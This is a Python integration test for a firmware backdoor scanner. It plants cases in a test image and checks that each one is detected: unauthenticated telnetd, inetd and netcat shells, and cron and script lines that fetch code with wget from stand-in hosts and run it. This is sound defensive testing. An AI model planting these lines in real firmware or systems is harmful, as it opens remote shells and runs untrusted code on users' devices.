"""Integration: boot-code and backdoor rules on a built firmware image.

A root file system with one planted case per rule (service.*,
script.remote-code, backdoor.known) next to unmodified boot scripts and
units copied from this machine's Debian packages is packed by
tests/fixtures/mkfirmware.sh (squashfs in a uImage in a flash image);
`fwvet scan --format json` must report every planted case at its fspath
and line, and nothing of these rules anywhere else.
"""

import json
import os
import shutil
import tempfile

import fwvtest as T

MINE = ("service.", "script.", "backdoor.")

# fspath -> (content, {(rule, line), ...})
PLANTED = {
    "/etc/init.d/S45debug": (
        "#!/bin/sh\n# factory debug\n/usr/sbin/telnetd -p 2323 -l /bin/sh &\n"
        "gdbserver :2345 /usr/bin/app &\n",
        {("service.unauthenticated-shell", 3), ("service.debug", 4)}),
    "/etc/inittab": (
        "::sysinit:/etc/init.d/rcS\nttyS0::askfirst:-/bin/sh\n"
        "::shutdown:/bin/umount -a -r\n",
        {("service.debug", 2)}),
    "/etc/inetd.conf": (
        "# maintenance\n9999 stream tcp nowait root /bin/sh sh -i\n",
        {("service.unauthenticated-shell", 2)}),
    "/etc/crontabs/root": (
        "*/30 * * * * wget -qO- http://update.example.com/cfg.sh | sh\n",
        {("script.remote-code", 1)}),
    "/usr/sbin/autoupdate": (
        "#!/bin/sh\nwget -O /tmp/u http://10.0.0.1/u\nchmod +x /tmp/u\n"
        "/tmp/u\n",
        {("script.remote-code", 2)}),
    "/www/cgi-bin/diag.cgi": (
        "#!/bin/sh\necho 'Content-Type: text/plain'\necho\n"
        "nc -l -p 4444 -e /bin/sh &\n",
        {("service.unauthenticated-shell", 4)}),
    "/usr/sbin/mfgd": (
        "\x7fNOTELF\x00MfgThread\x00w302r_mfg\x00",
        {("backdoor.known", 0)}),
}

# Boot code from Debian packages on this machine: must stay silent.
HOST_DIRS = ["/etc/init.d", "/etc/cron.d", "/etc/cron.daily",
             "/lib/systemd/system"]


def build(s, tmp):
    root = os.path.join(tmp, "rootfs")
    for fspath, (content, _) in PLANTED.items():
        out = root + fspath
        os.makedirs(os.path.dirname(out), exist_ok=True)
        with open(out, "wb") as f:
            f.write(content.encode("latin-1"))
    copied = 0
    for d in HOST_DIRS:
        if not os.path.isdir(d):
            continue
        for name in sorted(os.listdir(d)):
            src = os.path.join(d, name)
            if not os.path.isfile(src) or os.path.islink(src):
                continue
            if d.endswith("systemd/system") and not name.endswith(".service"):
                continue
            dst = root + "/debian" + src
            if os.path.exists(dst):
                continue
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            shutil.copyfile(src, dst)
            copied += 1
    s.check(copied >= 5, "copied Debian boot files (%d)" % copied)
    out = os.path.join(tmp, "fw")
    T.sh(["sh", T.MKFIRMWARE, "router", out, root], what="mkfirmware")
    return os.path.join(out, "router.bin")


def main():
    s = T.Suite("services")
    T.need_tools(s, "mksquashfs", "mkimage")
    tmp = tempfile.mkdtemp(prefix="fwvet-svc-")
    try:
        img = build(s, tmp)
        r = T.fwvet(s, "scan", "--format", "json", img, expect_rc=None)
        try:
            report = json.loads(r.stdout)
        except ValueError:
            s.check(False, "scan output is JSON", r.describe())
            s.finish()
        got = {}
        for f in report.get("findings", []):
            if f["rule"].startswith(MINE):
                got.setdefault(f["fspath"], set()).add(
                    (f["rule"], f.get("line") or 0))
                s.check(f.get("evidence"), "%s %s: evidence" %
                        (f["rule"], f["fspath"]), f)
        for fspath, (_, want) in PLANTED.items():
            s.eq(got.pop(fspath, set()), want, "findings at " + fspath)
        s.eq(got, {}, "no other service/script/backdoor findings "
             "(Debian boot files included)")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    s.finish()


if __name__ == "__main__":
    main()
